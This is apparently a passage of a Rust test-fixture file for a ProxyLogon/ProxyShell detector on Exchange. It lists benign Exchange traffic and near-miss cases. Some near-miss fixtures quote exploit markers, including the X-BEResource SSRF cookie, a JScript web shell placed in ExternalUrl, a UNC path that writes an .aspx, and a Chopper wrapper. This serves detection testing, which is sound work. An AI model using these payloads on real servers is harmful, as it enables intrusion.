            ex(request("GET", "/owa/auth/logon.aspx?url=https%3a%2f%2fmail.contoso.com%2fowa%2f&reason=0", &[("User-Agent", UA_CHROME88), ("Cookie", "ClientId=9F3B1C2D4E5A46B7A8C9D0E1F2A3B4C5; PrivateComputer=true; PBack=0")], b""), response(200, "OK", &[html], b"<!DOCTYPE html><html><head><title>Outlook</title><link rel=\"stylesheet\" href=\"/owa/auth/15.1.2176/themes/resources/logon.css\"></head><body><form action=\"/owa/auth.owa\" method=\"POST\" name=\"logonForm\"><input id=\"username\" name=\"username\"><input id=\"password\" name=\"password\" type=\"password\"></form></body></html>")),
            ex(request("POST", "/owa/auth.owa", &[("User-Agent", UA_CHROME88), ("Content-Type", "application/x-www-form-urlencoded"), ("Cookie", "ClientId=9F3B1C2D4E5A46B7A8C9D0E1F2A3B4C5; PrivateComputer=true; PBack=0")], b"destination=https%3A%2F%2Fmail.contoso.com%2Fowa%2F&flags=4&forcedownlevel=0&username=contoso%5Cjohn&password=Summer2021%21&passwordText=&isUtf8=1"), response(302, "Found", &[("Location", "https://mail.contoso.com/owa/"), ("Set-Cookie", "cadata=SGVsbG9Xb3JsZDEyMzQ1Njc4OTBhYmNkZWZnaGlqa2xtbm9wcXJzdHV2d3h5ejAxMjM0NTY3ODkwYWJjZGVm; path=/; secure; HttpOnly"), ("Set-Cookie", "cadataTTL=NfbS1bKMAV7gRZV5Q8mK1g==; path=/; secure; HttpOnly"), ("Set-Cookie", "cadataKey=Y2FkYXRhS2V5VmFsdWU=; path=/; secure; HttpOnly")], b"")),
            ex(request("GET", "/owa/", &[("User-Agent", UA_CHROME88), ("Cookie", OWA_COOKIES)], b""), response(200, "OK", &[html, ("X-CalculatedBETarget", "ex01.contoso.local"), ("Set-Cookie", &format!("X-OWA-CANARY={OWA_CANARY}; path=/; secure"))], b"<!DOCTYPE html><html><head><title>Outlook</title></head><body><div id=\"owaLoading\"></div></body></html>")),
            ex(request("POST", "/owa/service.svc?action=FindItem&EP=1&ID=-34&AC=1", &[("User-Agent", UA_CHROME88), ("Action", "FindItem"), ("X-OWA-CANARY", OWA_CANARY), ("X-OWA-ActionName", "Browse_All"), ("X-Requested-With", "XMLHttpRequest"), ("Content-Type", "application/json; charset=utf-8"), ("Cookie", OWA_COOKIES)], br#"{"__type":"FindItemJsonRequest:#Exchange","Header":{"__type":"JsonRequestHeaders:#Exchange","RequestServerVersion":"Exchange2013","TimeZoneContext":{"__type":"TimeZoneContext:#Exchange","TimeZoneDefinition":{"__type":"TimeZoneDefinitionType:#Exchange","Id":"W. Europe Standard Time"}}},"Body":{"__type":"FindItemRequest:#Exchange","ItemShape":{"__type":"ItemResponseShape:#Exchange","BaseShape":"IdOnly"},"ParentFolderIds":[{"__type":"DistinguishedFolderId:#Exchange","Id":"inbox"}],"Traversal":"Shallow","Paging":{"__type":"IndexedPageView:#Exchange","BasePoint":"Beginning","Offset":0,"MaxEntriesReturned":25}}}"#), response(200, "OK", &[("Content-Type", "application/json; charset=utf-8"), ("X-CalculatedBETarget", "ex01.contoso.local")], br#"{"Body":{"ResponseMessages":{"Items":[{"__type":"FindItemResponseMessage:#Exchange","ResponseCode":"NoError","ResponseClass":"Success","RootFolder":{"TotalItemsInView":1,"Items":[{"__type":"Message:#Exchange","Subject":"Lunch?"}]}}]}}}"#)),
        ],
    ));
    v.push(benign(
        "bn-owa-static-resources",
        "OWA static resources with the full cookie set (X-BackEndCookie, X-OWA-CANARY, cadata*): .css, .js, .gif, .woff and /ecp/favicon.ico, the same extensions the SSRF carriers use.",
        vec![
            ex(request("GET", "/owa/auth/15.1.2176/themes/resources/logon.css", &[("User-Agent", UA_EDGE), ("Cookie", OWA_COOKIES)], b""), response(200, "OK", &[("Content-Type", "text/css")], b"body{font-family:'Segoe UI'}")),
            ex(request("GET", "/owa/prem/15.1.2176.2/scripts/boot.worker.common.js", &[("User-Agent", UA_EDGE), ("Cookie", OWA_COOKIES)], b""), response(200, "OK", &[("Content-Type", "application/javascript")], b"var a=1;")),
            ex(request("GET", "/owa/prem/15.1.2176.2/resources/images/0/sprite1.mouse.png", &[("User-Agent", UA_EDGE), ("Cookie", OWA_COOKIES)], b""), response(200, "OK", &[("Content-Type", "image/png")], b"\x89PNG\r\n\x1a\n\x00\x00\x00\x0dIHDR")),
            ex(request("GET", "/owa/auth/15.1.2176/themes/resources/segoeui-regular.woff", &[("User-Agent", UA_EDGE), ("Cookie", OWA_COOKIES)], b""), response(200, "OK", &[("Content-Type", "font/woff")], b"wOFF\x00\x01\x00\x00")),
            ex(request("GET", "/ecp/favicon.ico", &[("User-Agent", UA_EDGE), ("Cookie", &format!("{BACKEND_COOKIE}; {}", ecp_cookie_tail()))], b""), response(200, "OK", &[("Content-Type", "image/x-icon")], b"\x00\x00\x01\x00\x01\x00")),
        ],
    ));
    v.push(benign(
        "bn-ecp-admin-oab-vdir",
        "An administrator in ECP with a legitimately used msExchEcpCanary: loads /ecp/default.aspx (an .aspx on the connection), lists virtual directories, reads the OAB directory (JSON with OfflineAddressBooks and ExternalUrl), sets ExternalUrl to https://mail.contoso.com/OAB, and resets the directory saving settings to a UNC .txt backup; ECP re-issues msExchEcpCanary with Set-Cookie.",
        vec![
            ex(request("GET", "/ecp/default.aspx", &[("User-Agent", UA_EDGE), ("Cookie", &format!("{BACKEND_COOKIE}; {}", ecp_cookie_tail()))], b""), response(200, "OK", &[html, ("Set-Cookie", &format!("msExchEcpCanary={CANARY}; path=/ecp")), ("X-CalculatedBETarget", "ex01.contoso.local")], b"<!DOCTYPE html><html><head><title>Exchange admin center</title></head><body></body></html>")),
            ex(request("POST", &format!("/ecp/DDI/DDIService.svc/GetList?schema=VirtualDirectory&msExchEcpCanary={CANARY}"), &[("User-Agent", UA_EDGE), ("Content-Type", "application/json; charset=UTF-8"), ("X-Requested-With", "XMLHttpRequest"), ("Cookie", &format!("{BACKEND_COOKIE}; {}", ecp_cookie_tail()))], b"{\"filter\":{\"Parameters\":{\"__type\":\"JsonDictionaryOfanyType:#Microsoft.Exchange.Management.ControlPanel\",\"SelectedView\":\"\",\"SelectedVDirType\":\"All\"}},\"sort\":{\"Direction\":0,\"PropertyName\":\"Name\"}}"), ecp_json_ok(DDI_GET_OAB_RESPONSE, true)),
            ex(request("POST", &format!("/ecp/DDI/DDIService.svc/GetObject?schema=OABVirtualDirectory&msExchEcpCanary={CANARY}"), &[("User-Agent", UA_EDGE), ("Content-Type", "application/json; charset=UTF-8"), ("Cookie", &format!("{BACKEND_COOKIE}; {}", ecp_cookie_tail()))], format!("{{\"identity\":{{\"__type\":\"Identity:ECP\",\"RawIdentity\":\"{OAB_ID}\"}},\"properties\":{{}}}}").as_bytes()), ecp_json_ok(DDI_GET_OAB_RESPONSE, true)),
            ex(request("POST", &format!("/ecp/DDI/DDIService.svc/SetObject?schema=OABVirtualDirectory&msExchEcpCanary={CANARY}"), &[("User-Agent", UA_EDGE), ("Content-Type", "application/json; charset=UTF-8"), ("Cookie", &format!("{BACKEND_COOKIE}; {}", ecp_cookie_tail()))], &set_external_url_body("https://mail.contoso.com/OAB")), ecp_json_ok(DDI_SET_OK, true)),
            ex(request("POST", &format!("/ecp/DDI/DDIService.svc/SetObject?schema=ResetOABVirtualDirectory&msExchEcpCanary={CANARY}"), &[("User-Agent", UA_EDGE), ("Content-Type", "application/json; charset=UTF-8"), ("Cookie", &format!("{BACKEND_COOKIE}; {}", ecp_cookie_tail()))], &reset_body(r#"\\\\fs01.contoso.local\\backup\\ex01-oab-settings.txt"#)), ecp_json_ok(DDI_SET_OK, true)),
        ],
    ));
    v.push(benign(
        "bn-ecp-explicit-logon-other-user",
        "An administrator opens another user's options in ECP (/ecp/john@contoso.com/?exsvurl=1...) with normal session cookies, then the user's inbox-rule list.",
        vec![
            ex(request("GET", "/ecp/john@contoso.com/?exsvurl=1&p=PersonalSettings/HomePage.aspx", &[("User-Agent", UA_EDGE), ("Cookie", &format!("{BACKEND_COOKIE}; {}", ecp_cookie_tail()))], b""), response(200, "OK", &[html], b"<html><body>Options</body></html>")),
            ex(request("POST", &format!("/ecp/john@contoso.com/RulesEditor/InboxRules.svc/GetList?msExchEcpCanary={CANARY}"), &[("User-Agent", UA_EDGE), ("Content-Type", "application/json; charset=utf-8"), ("Cookie", &format!("{BACKEND_COOKIE}; {}", ecp_cookie_tail()))], b"{\"filter\":{},\"sort\":{}}"), ecp_json_ok(r#"{"d":{"__type":"RuleRowResults:ECP","Cmdlets":["Get-InboxRule"],"ErrorRecords":[],"Output":[]}}"#, true)),
        ],
    ));
    v.push(benign(
        "bn-ews-soap",
        "EWS Managed API client (ExchangeServicesClient/15.00.0913.015) doing FindItem and GetItem on /EWS/Exchange.asmx with NTLM.",
        vec![
            ex(request("POST", "/EWS/Exchange.asmx", &[("User-Agent", "ExchangeServicesClient/15.00.0913.015"), ("Content-Type", "text/xml; charset=utf-8"), ("Accept", "text/xml"), ("Authorization", "NTLM TlRMTVNTUAADAAAAGAAYAGgAAADeAN4AgAAAAA4ADgBYAAAACAAIAGYAAAA="), ("Cookie", BACKEND_COOKIE)], br#"<?xml version="1.0" encoding="utf-8"?><soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/" xmlns:t="http://schemas.microsoft.com/exchange/services/2006/types" xmlns:m="http://schemas.microsoft.com/exchange/services/2006/messages"><soap:Header><t:RequestServerVersion Version="Exchange2013_SP1" /></soap:Header><soap:Body><m:FindItem Traversal="Shallow"><m:ItemShape><t:BaseShape>IdOnly</t:BaseShape></m:ItemShape><m:IndexedPageItemView MaxEntriesReturned="10" Offset="0" BasePoint="Beginning" /><m:ParentFolderIds><t:DistinguishedFolderId Id="inbox" /></m:ParentFolderIds></m:FindItem></soap:Body></soap:Envelope>"#), response(200, "OK", &[("Content-Type", "text/xml; charset=utf-8"), ("X-CalculatedBETarget", "ex01.contoso.local")], br#"<?xml version="1.0" encoding="utf-8"?><s:Envelope xmlns:s="http://schemas.xmlsoap.org/soap/envelope/"><s:Body><m:FindItemResponse xmlns:m="http://schemas.microsoft.com/exchange/services/2006/messages"><m:ResponseMessages><m:FindItemResponseMessage ResponseClass="Success"><m:ResponseCode>NoError</m:ResponseCode></m:FindItemResponseMessage></m:ResponseMessages></m:FindItemResponse></s:Body></s:Envelope>"#)),
            ex(request("POST", "/EWS/Exchange.asmx", &[("User-Agent", "ExchangeServicesClient/15.00.0913.015"), ("Content-Type", "text/xml; charset=utf-8"), ("Cookie", BACKEND_COOKIE)], br#"<?xml version="1.0" encoding="utf-8"?><soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/" xmlns:t="http://schemas.microsoft.com/exchange/services/2006/types" xmlns:m="http://schemas.microsoft.com/exchange/services/2006/messages"><soap:Body><m:GetItem><m:ItemShape><t:BaseShape>Default</t:BaseShape></m:ItemShape><m:ItemIds><t:ItemId Id="AAMkADk0ZjAwYzFkLTU2MDYtNDE5Mi1hOTk2LTFhYWNmOTQ1MDU2NwBGAAAAAAA=" /></m:ItemIds></m:GetItem></soap:Body></soap:Envelope>"#), response(200, "OK", &[("Content-Type", "text/xml; charset=utf-8")], b"<s:Envelope/>")),
        ],
    ));
    v.push(benign(
        "bn-activesync",
        "An iPhone on Exchange ActiveSync: OPTIONS, then FolderSync with a WBXML body and Basic authentication.",
        vec![
            ex(request("OPTIONS", "/Microsoft-Server-ActiveSync?User=john&DeviceId=ApplC39GQ1PZN735&DeviceType=iPhone", &[("User-Agent", "Apple-iPhone12C1/1805.114"), ("Authorization", "Basic Y29udG9zb1xqb2huOlN1bW1lcjIwMjEh")], b""), response(200, "OK", &[("MS-Server-ActiveSync", "15.1"), ("MS-ASProtocolVersions", "2.0,2.1,2.5,12.0,12.1,14.0,14.1,16.0,16.1"), ("MS-ASProtocolCommands", "Sync,SendMail,SmartForward,SmartReply,GetAttachment,FolderSync,Ping")], b"")),
            ex(request("POST", "/Microsoft-Server-ActiveSync?Cmd=FolderSync&User=john&DeviceId=ApplC39GQ1PZN735&DeviceType=iPhone", &[("User-Agent", "Apple-iPhone12C1/1805.114"), ("Authorization", "Basic Y29udG9zb1xqb2huOlN1bW1lcjIwMjEh"), ("MS-ASProtocolVersion", "16.1"), ("X-MS-PolicyKey", "1307199584"), ("Content-Type", "application/vnd.ms-sync.wbxml")], b"\x03\x01\x6a\x00\x00\x07\x56\x52\x03\x30\x00\x01\x01"), response(200, "OK", &[("Content-Type", "application/vnd.ms-sync.wbxml")], b"\x03\x01\x6a\x00\x00\x07\x56\x4c\x03\x31\x00\x01\x52\x03\x31\x00\x01\x01")),
        ],
    ));
    v.push(benign(
        "bn-mapi-http-outlook",
        "Outlook over MAPI/HTTP: Connect on /mapi/emsmdb/?MailboxId=... with X-RequestType: Connect, X-ClientInfo, X-BackEndCookie and Negotiate, then an NSPI bind.",
        vec![
            ex(request("POST", &format!("/mapi/emsmdb/?MailboxId={MBX_GUID}"), &[("User-Agent", "Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.13801; Pro)"), ("Content-Type", "application/mapi-http"), ("X-RequestType", "Connect"), ("X-ClientInfo", "{A4D8A6A1-22A5-4E3B-9C6F-07B5C9E1F0D2}:1"), ("X-ClientApplication", "Outlook/16.0.13801.20266"), ("X-RequestId", "{A4D8A6A1-22A5-4E3B-9C6F-07B5C9E1F0D2}:2"), ("Authorization", "Negotiate YIIHOgYGKwYBBQUCoIIHLjCCByqgMDAuBgkqhkiC9xIBAgIGCSqGSIb3EgECAgYKKwYBBAGCNwICHgYKKwYBBAGCNwICCqKCBvQEggbwYIIG7AYJKoZIhvcSAQICAQBuggbbMIIG1w=="), ("Cookie", BACKEND_COOKIE)], &mapi_connect_body(MAPI_TAIL_TESTANULL)), response(200, "OK", &[("Content-Type", "application/mapi-http"), ("X-RequestType", "Connect"), ("X-ResponseCode", "0"), ("Set-Cookie", "MapiContext=EgAAAAAAAAA=; path=/mapi/emsmdb/"), ("X-CalculatedBETarget", "ex01.contoso.local")], b"PROCESSING\r\nDONE\r\nX-ResponseCode: 0\r\n\r\n\x00\x00\x00\x00\x00\x00\x00\x00\x60\xea\x00\x00")),
            ex(request("POST", &format!("/mapi/nspi/?MailboxId={MBX_GUID}"), &[("User-Agent", "Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.13801; Pro)"), ("Content-Type", "application/mapi-http"), ("X-RequestType", "Bind"), ("X-ClientInfo", "{A4D8A6A1-22A5-4E3B-9C6F-07B5C9E1F0D2}:3"), ("Cookie", BACKEND_COOKIE)], b"\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00"), response(200, "OK", &[("Content-Type", "application/mapi-http"), ("X-RequestType", "Bind")], b"PROCESSING\r\nDONE\r\n\r\n\x00\x00\x00\x00")),
        ],
    ));
    v.push(benign(
        "bn-autodiscover",
        "Outlook Autodiscover: POST /autodiscover/autodiscover.xml (LegacyDN in the answer), then Autodiscover v2 JSON: /autodiscover/autodiscover.json?Email=john%40contoso.com&Protocol=ActiveSync&RedirectCount=1 and /autodiscover/autodiscover.json/v1.0/john@contoso.com?Protocol=EWS.",
        vec![
            ex(request("POST", "/autodiscover/autodiscover.xml", &[("User-Agent", UA_OUTLOOK), ("Content-Type", "text/xml"), ("Authorization", "Negotiate YIIHOgYGKwYBBQUCoIIHLjCCByqgMDAuBgkqhkiC9xIBAgIG")], &autodiscover_body("john@contoso.com")), autodiscover_response(true)),
            ex(request("GET", "/autodiscover/autodiscover.json?Email=john%40contoso.com&Protocol=ActiveSync&RedirectCount=1", &[("User-Agent", "Outlook-iOS/723.4027091.prod.iphone (4.2117.0)")], b""), response(200, "OK", &[("Content-Type", "application/json; charset=utf-8"), ("X-CalculatedBETarget", "ex01.contoso.local")], b"{\"Protocol\":\"ActiveSync\",\"Url\":\"https://mail.contoso.com/Microsoft-Server-ActiveSync\"}")),
            ex(request("GET", "/autodiscover/autodiscover.json/v1.0/john@contoso.com?Protocol=EWS", &[("User-Agent", UA_OUTLOOK)], b""), response(200, "OK", &[("Content-Type", "application/json; charset=utf-8")], b"{\"Protocol\":\"EWS\",\"Url\":\"https://mail.contoso.com/EWS/Exchange.asmx\"}")),
        ],
    ));
    v.push(benign(
        "bn-oab-download",
        "Outlook downloading the offline address book: /OAB/<guid>/oab.xml, then an .lzx file.",
        vec![
            ex(request("GET", "/OAB/3e2d1c0b-9a8f-4e7d-b6c5-a4b3c2d1e0f9/oab.xml", &[("User-Agent", UA_OUTLOOK), ("Authorization", "Negotiate YIIHOgYGKwYBBQUCoIIHLjCCByqg")], b""), response(200, "OK", &[("Content-Type", "text/xml")], b"<?xml version=\"1.0\" encoding=\"UTF-8\"?><OAB><OAL id=\"/\" dn=\"\\Global Address List\" name=\"\\Global Address List\"><Full seq=\"42\" ver=\"32\" size=\"1048\" uncompressedsize=\"4096\" SHA=\"3f0e\">3e2d1c0b-9a8f-4e7d-b6c5-a4b3c2d1e0f9-data-42.lzx</Full></OAL></OAB>")),
            ex(request("GET", "/OAB/3e2d1c0b-9a8f-4e7d-b6c5-a4b3c2d1e0f9/3e2d1c0b-9a8f-4e7d-b6c5-a4b3c2d1e0f9-data-42.lzx", &[("User-Agent", UA_OUTLOOK)], b""), response(200, "OK", &[("Content-Type", "application/octet-stream")], b"\x00\x00\x00\x00\x2a\x00\x00\x00\x18\x04\x00\x00\x00\x10\x00\x00")),
        ],
    ));
    v.push(benign(
        "bn-rpc-over-http",
        "Outlook Anywhere (RPC/HTTP): RPC_IN_DATA and RPC_OUT_DATA on /rpc/rpcproxy.dll?EX01.contoso.local:6001 with NTLM negotiation (401 challenge), the same request shape PoCs use to learn the back-end name.",
        vec![
            ex(request("RPC_IN_DATA", "/rpc/rpcproxy.dll?EX01.contoso.local:6001", &[("User-Agent", "MSRPC"), ("Accept", "application/rpc"), ("Authorization", "NTLM TlRMTVNTUAABAAAAB4IIogAAAAAAAAAAAAAAAAAAAAAKAGFKAAAADw=="), ("Content-Length", "0"), ("Connection", "Keep-Alive")], b""), response(401, "Unauthorized", &[("WWW-Authenticate", "NTLM TlRMTVNTUAACAAAADgAOADgAAAAFgomi0NzKTT9IL6cAAAAAAAAAAJgAmABGAAAACgBjRQAAAA9DAE8ATgBUAE8AUwBPAAIADgBDAE8ATgBUAE8AUwBPAAEACABFAFgAMAAxAAQAGgBjAG8AbgB0AG8AcwBvAC4AbABvAGMAYQBsAAMAJABFAFgAMAAxAC4AYwBvAG4AdABvAHMAbwAuAGwAbwBjAGEAbAAHAAgA")], b"")),
            ex(request("RPC_OUT_DATA", "/rpc/rpcproxy.dll?EX01.contoso.local:6001", &[("User-Agent", "MSRPC"), ("Accept", "application/rpc"), ("Authorization", "NTLM TlRMTVNTUAABAAAAB4IIogAAAAAAAAAAAAAAAAAAAAAKAGFKAAAADw=="), ("Content-Length", "0")], b""), response(401, "Unauthorized", &[("WWW-Authenticate", "Negotiate")], b"")),
        ],
    ));
    v.push(on_port(
        benign(
            "bn-remote-powershell-kerberos",
            "Exchange Management Shell over remote PowerShell on port 80 with Kerberos and UA Microsoft WinRM Client: Create shell (ResourceCreated), Get-Mailbox, and an administrator's legitimate New-MailboxExportRequest to a PST on a file share.",
            vec![
                ex(request("POST", "/powershell?serializationLevel=Full;ExchClientVer=15.1.2176.2;clientApplication=ManagementShell;TargetServer=;PSVersion=5.1.17763.1490", &[("Host", "ex01.contoso.local"), ("User-Agent", "Microsoft WinRM Client"), ("Authorization", "Kerberos YIIHKwYJKoZIhvcSAQICAQBuggcaMIIHFqADAgEFoQMCAQ6iBwMFACAAAACjggWG"), ("Content-Type", "application/soap+xml;charset=UTF-8")], &wsman_create("http://ex01.contoso.local/powershell?serializationLevel=Full;ExchClientVer=15.1.2176.2;clientApplication=ManagementShell;TargetServer=;PSVersion=5.1.17763.1490")), wsman_created_response()),
                ex(request("POST", "/powershell?serializationLevel=Full;ExchClientVer=15.1.2176.2;clientApplication=ManagementShell;TargetServer=;PSVersion=5.1.17763.1490", &[("Host", "ex01.contoso.local"), ("User-Agent", "Microsoft WinRM Client"), ("Authorization", "Kerberos YIIHKwYJKoZIhvcSAQICAQBuggcaMIIHFqADAgEFoQMCAQ6iBwMFACAAAACjggWG"), ("Content-Type", "application/soap+xml;charset=UTF-8")], &wsman_command("http://ex01.contoso.local/powershell", "", 3, &create_pipeline_xml("Get-Mailbox", &[("ResultSize", "10")], ""))), wsman_command_response()),
                ex(request("POST", "/powershell?serializationLevel=Full;ExchClientVer=15.1.2176.2;clientApplication=ManagementShell;TargetServer=;PSVersion=5.1.17763.1490", &[("Host", "ex01.contoso.local"), ("User-Agent", "Microsoft WinRM Client"), ("Authorization", "Kerberos YIIHKwYJKoZIhvcSAQICAQBuggcaMIIHFqADAgEFoQMCAQ6iBwMFACAAAACjggWG"), ("Content-Type", "application/soap+xml;charset=UTF-8")], &wsman_command("http://ex01.contoso.local/powershell", "", 4, &export_pipeline("\\\\fs01.contoso.local\\pst\\john.pst"))), wsman_command_response()),
            ],
        ),
        80,
    ));
    v.push(benign(
        "bn-owa-shared-mailbox",
        "OWA explicit logon to a shared mailbox: /owa/shared@contoso.com/ and service.svc with X-OWA-ExplicitLogonUser (not on /powershell).",
        vec![
            ex(request("GET", "/owa/shared@contoso.com/", &[("User-Agent", UA_EDGE), ("Cookie", OWA_COOKIES)], b""), response(200, "OK", &[html], b"<html><body></body></html>")),
            ex(request("POST", "/owa/shared@contoso.com/service.svc?action=GetFolder&EP=1&ID=-2&AC=1", &[("User-Agent", UA_EDGE), ("X-OWA-ExplicitLogonUser", "shared@contoso.com"), ("X-OWA-CANARY", OWA_CANARY), ("Action", "GetFolder"), ("Content-Type", "application/json; charset=utf-8"), ("Cookie", OWA_COOKIES)], br#"{"__type":"GetFolderJsonRequest:#Exchange","Body":{"__type":"GetFolderRequest:#Exchange","FolderIds":[{"__type":"DistinguishedFolderId:#Exchange","Id":"inbox"}]}}"#), response(200, "OK", &[("Content-Type", "application/json; charset=utf-8")], b"{\"Body\":{}}")),
        ],
    ));
    v.push(benign(
        "bn-owa-auth-pages",
        "Stock pages under /owa/auth/ and /ecp/auth/: logon.aspx, errorFE.aspx, TimeoutLogoff.aspx and a legitimate frowny.aspx error page with an https refurl.",
        vec![
            ex(request("GET", "/owa/auth/logon.aspx?replaceCurrent=1&url=https%3a%2f%2fmail.contoso.com%2fowa%2f", &[("User-Agent", UA_EDGE)], b""), response(200, "OK", &[html], b"<html><head><title>Outlook</title></head><body><form action=\"/owa/auth.owa\"></form></body></html>")),
            ex(request("GET", "/owa/auth/errorFE.aspx?httpCode=500", &[("User-Agent", UA_EDGE)], b""), response(200, "OK", &[html], b"<html><body>Something went wrong</body></html>")),
            ex(request("GET", "/ecp/auth/TimeoutLogoff.aspx", &[("User-Agent", UA_EDGE)], b""), response(200, "OK", &[html], b"<html><body>Your session timed out.</body></html>")),
            ex(request("GET", "/owa/auth/frowny.aspx?app=Mail&et=ServerError&esrc=MasterPage&te=%5c&refurl=https%3a%2f%2fmail.contoso.com%2fowa%2f", &[("User-Agent", UA_EDGE)], b""), response(200, "OK", &[html], b"<html><body>Something went wrong</body></html>")),
        ],
    ));
}

// ---------------------------------------------------------------------------------------------
// Near misses.
// ---------------------------------------------------------------------------------------------

const ARTICLE: &str = r#"<html><head><title>ProxyLogon explained</title></head><body><h1>How ProxyLogon works</h1>
<p>The attacker sends <code>Cookie: X-BEResource=Admin@EX01.contoso.local:444/ecp/proxyLogon.ecp?a=~1942062522;</code> to <code>/ecp/y.js</code>
and gets back <code>X-CalculatedBETarget: EX01.contoso.local</code> and status 241 with <code>Set-Cookie: msExchEcpCanary=...</code>.</p>
<pre>X-BEResource=localhost~1942062522
X-AnonResource-Backend=localhost/ecp/default.flt?~3
/autodiscover/autodiscover.json?@foo.com/mapi/nspi/?&amp;Email=autodiscover/autodiscover.json%3f@foo.com
"ExternalUrl":"http://ffff/#<script language=\"JScript\" runat=\"server\"> function Page_Load(){/**/eval(Request[\"exec_code\"],\"unsafe\");}</script>"
"FilePathName":"\\\\127.0.0.1\\c$\\Program Files\\Microsoft\\Exchange Server\\V15\\FrontEnd\\HttpProxy\\owa\\auth\\x.aspx"
New-MailboxExportRequest -Mailbox x -FilePath "\\localhost\c$\inetpub\wwwroot\aspnet_client\x.aspx"
OfflineAddressBooks             :
ExternalUrl                     : http://f/
Response.Write("->|");...eval(...FromBase64String(...),"unsafe")...Response.Write("|<-");  ->|nt authority\system|<-
!BDN is the PST signature. Georg says, 'All seems fine'. with SID S-1-5-21-1-2-3-500 ... act as owner of a UserMailbox
</pre></body></html>"#;

fn near_misses(v: &mut Vec<Scenario>) {
    v.push(on_port(
        near_miss(
            "nm-article-quoting-markers",
            "A security blog page that quotes the ProxyLogon/ProxyShell markers (X-BEResource=...~1942062522, 241, msExchEcpCanary, ExternalUrl script, OAB dump, Chopper framing, !BDN) in the response body, on a web server that is not Exchange.",
            vec![ex(
                request("GET", "/2021/03/proxylogon-explained.html", &[("Host", "blog.example.org"), ("User-Agent", UA_EDGE), ("Cookie", "_ga=GA1.2.1234567890.1614760000; theme=dark")], b""),
                response(200, "OK", &[("Content-Type", "text/html; charset=utf-8")], ARTICLE.as_bytes()),
            )],
        ),
        80,
    ));
    v.push(near_miss(
        "nm-cookie-name-suffix",
        "Cookies named X-BEResourceX, X-AnonResource-BackendX and xX-BEResource carrying ~<int> values: not the cookies the front end reads.",
        vec![ex(
            request("GET", "/ecp/y.js", &[("User-Agent", UA_EDGE), ("Cookie", "X-BEResourceX=localhost~1; X-AnonResource-BackendX=localhost/ecp/default.flt?~3; xX-BEResource=localhost~1942062522")], b""),
            response(200, "OK", &[("Content-Type", "application/javascript")], b"var a=1;"),
        )],
    ));
    v.push(near_miss(
        "nm-beresource-as-request-header",
        "X-BEResource and X-AnonResource-Backend sent as request headers, not cookies (the mistake of a public test generator; the handler reads only the cookie) (§1.1, §11).",
        vec![ex(
            request("GET", "/ecp/y.js", &[("User-Agent", UA_EDGE), ("X-BEResource", "localhost~1942062522"), ("X-AnonResource-Backend", "localhost/ecp/default.flt?~3"), ("Cookie", &ecp_cookie_tail())], b""),
            response(200, "OK", &[("Content-Type", "application/javascript"), ("X-CalculatedBETarget", "ex01.contoso.local")], b"var a=1;"),
        )],
    ));
    v.push(near_miss(
        "nm-nuclei-fooprotocol-powershell",
        "Autodiscover v2 with a real mailbox address and a parameter FooProtocol=Powershell (nuclei's FP trap): autodiscover and powershell both appear but no SSRF (§4.1, §10.2 item 20).",
        vec![ex(
            request("GET", "/autodiscover/autodiscover.json?Email=john%40contoso.com&Protocol=XYZ&FooProtocol=Powershell", &[("User-Agent", UA_OUTLOOK)], b""),
            response(400, "Bad Request", &[("Content-Type", "application/json; charset=utf-8"), ("X-CalculatedBETarget", "ex01.contoso.local")], b"{\"ErrorCode\":\"ProtocolNotSupported\"}"),
        )],
    ));
    v.push(near_miss(
        "nm-owa-mail-quoting-exploit",
        "A user saves an OWA draft (POST /owa/service.svc?action=CreateItem) whose body quotes the exploit: the X-BEResource cookie, the ExternalUrl script, FilePathName, New-MailboxExportRequest, a Chopper wrapper and WScript.Shell.",
        vec![ex(
            request("POST", "/owa/service.svc?action=CreateItem&EP=1&ID=-61&AC=1", &[("User-Agent", UA_EDGE), ("Action", "CreateItem"), ("X-OWA-CANARY", OWA_CANARY), ("Content-Type", "application/json; charset=utf-8"), ("Cookie", OWA_COOKIES)], br#"{"__type":"CreateItemJsonRequest:#Exchange","Body":{"__type":"CreateItemRequest:#Exchange","Items":[{"__type":"Message:#Exchange","Subject":"IR notes","Body":{"__type":"BodyContentType:#Exchange","BodyType":"HTML","Value":"<div>Seen in the logs: Cookie: X-BEResource=Admin@EX01:444/ecp/DDI/DDIService.svc/SetObject?schema=ResetOABVirtualDirectory&amp;a=~1942062522; body \"ExternalUrl\":\"http://f/<script language=\\\"JScript\\\" runat=\\\"server\\\">function Page_Load(){eval(Request[\\\"x\\\"],\\\"unsafe\\\");}</script>\" then \"FilePathName\":\"\\\\\\\\127.0.0.1\\\\c$\\\\inetpub\\\\wwwroot\\\\aspnet_client\\\\x.aspx\", New-MailboxExportRequest, Response.Write(\"->|\");eval(System.Text.Encoding.GetEncoding(65001).GetString(System.Convert.FromBase64String(\"...\")),\"unsafe\") and new ActiveXObject(\"WScript.Shell\"), SecurityToken=x</div>"}}],"MessageDisposition":"SaveOnly"}}"#),
            response(200, "OK", &[("Content-Type", "application/json; charset=utf-8")], b"{\"Body\":{\"ResponseMessages\":{\"Items\":[{\"ResponseCode\":\"NoError\"}]}}}"),
        )],
    ));
    v.push(near_miss(
        "nm-markers-inside-cookie-values",
        "Marker text inside other cookies' values (prefs=X-BEResource=localhost~1, last=Email=autodiscover/..., note=SecurityToken=x) and an empty SecurityToken cookie on /ecp/: no cookie of those names starts a segment with a usable value.",
        vec![ex(
            request("GET", "/ecp/PersonalSettings/HomePage.aspx?showhelp=false", &[("User-Agent", UA_EDGE), ("Cookie", &format!("prefs=X-BEResource=localhost~1; last=Email=autodiscover/autodiscover.json; note=SecurityToken=x; SecurityToken=; {}", ecp_cookie_tail()))], b""),
            response(200, "OK", &[("Content-Type", "text/html; charset=utf-8"), ("Set-Cookie", &format!("msExchEcpCanary={CANARY}; path=/ecp"))], b"<html><body>Options</body></html>"),
        )],
    ));
    v.push(near_miss(
        "nm-beresource-without-version",
        "X-BEResource cookies whose value the back end rejects: no '~', a non-numeric version, an empty version (BackEndServer.FromString needs exactly '<host>~<int>') (§1.2).",
        vec![
            ex(request("GET", "/ecp/a.js", &[("User-Agent", UA_EDGE), ("Cookie", "X-BEResource=mbx01.contoso.local")], b""), response(200, "OK", &[("Content-Type", "application/javascript")], b"")),
